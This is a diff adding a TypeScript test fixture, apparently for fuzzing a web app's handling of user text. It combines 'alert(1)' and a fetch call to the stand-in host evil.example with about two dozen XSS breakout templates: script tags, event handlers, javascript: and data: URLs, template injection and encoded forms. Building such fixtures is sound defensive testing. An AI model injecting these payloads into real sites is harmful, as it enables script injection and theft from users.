@@ -1,0 +1,36 @@
+import { hostileHtml } from './hostile-html.ts'
+
+const carriers = ['alert(1)', 'fetch(`//evil.example`)']
+
+/** Text that wants to leave where it is written: an attribute, a title, a script, JSON, an address, a template. */
+const shapes: readonly ((code: string) => string)[] = [
+  (code) => `"><script>${code}</script>`,
+  (code) => `'><script>${code}</script>`,
+  (code) => `" onfocus="${code}" autofocus="`,
+  (code) => `' onmouseover='${code}' x='`,
+  (code) => `\` onload=\`${code}`,
+  (code) => `"-${code}-"`,
+  (code) => `'-${code}-'`,
+  (code) => `\\"-${code}//`,
+  (code) => `</title><script>${code}</script>`,
+  (code) => `</textarea><img src=x onerror=${code}>`,
+  (code) => `</script><svg onload=${code}>`,
+  (code) => `<!--<script>${code}//-->`,
+  (code) => `"}]</script><script>${code}</script>`,
+  (code) => `\u2028${code}\u2029`,
+  (code) => `javascript:${code}`,
+  (code) => `data:text/html,<script>${code}</script>`,
+  (code) => `//evil.example/?${code}`,
+  (code) => `\${${code}}`,
+  (code) => `{{${code}}}`,
+  (code) => `<%= ${code} %>`,
+  (code) => `]]><script>${code}</script>`,
+  (code) => `%22%3E%3Cscript%3E${code}%3C/script%3E`,
+  (code) => `\\u003cscript\\u003e${code}\\u003c/script\\u003e`,
+  (code) => `<svg/onload=${code}//`,
+]
+
+/** At least two hundred texts, the hostile HTML among them, that a name, a search or a description may carry. PostgreSQL stores no NUL. */
+export const hostileTexts: readonly string[] = [...hostileHtml, ...carriers.flatMap((code) => shapes.map((shape) => shape(code)))].map(
+  (text) => text.replaceAll('\u0000', ''),
+)
